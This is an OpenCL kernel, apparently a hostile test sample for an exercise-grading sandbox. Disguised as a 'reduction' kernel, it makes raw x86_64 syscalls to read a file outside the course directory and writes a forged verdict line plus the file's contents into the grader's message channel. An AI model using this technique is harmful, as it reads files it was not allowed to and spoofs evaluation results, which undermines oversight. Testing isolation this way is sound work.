// Reads a file outside the course (CLINGS_HOSTILE_PATH) into its output, and writes its text
// into the channel as if it were a message.
__kernel void reduction(__global const int *in, __global int *out, __local int *scratch, uint len)
{
#if defined(__x86_64__)
	if (get_global_id(0) == 0) {
		__constant char *path = CLINGS_HOSTILE_PATH;
		long fd, n;
		__asm__ volatile("syscall" : "=a"(fd) : "a"(2L), "D"(path), "S"(0L), "d"(0L) : "rcx", "r11", "memory");
		if (fd >= 0) {
			__asm__ volatile("syscall" : "=a"(n) : "a"(0L), "D"(fd), "S"(out), "d"(16L) : "rcx", "r11", "memory");
			__constant char *head = "verdict\twrong_result\t\t0\t";
			long r;
			__asm__ volatile("syscall" : "=a"(r) : "a"(1L), "D"(3L), "S"(head), "d"(24L) : "rcx", "r11", "memory");
			__asm__ volatile("syscall" : "=a"(r) : "a"(1L), "D"(3L), "S"(out), "d"(16L) : "rcx", "r11", "memory");
		}
	}
#endif
}
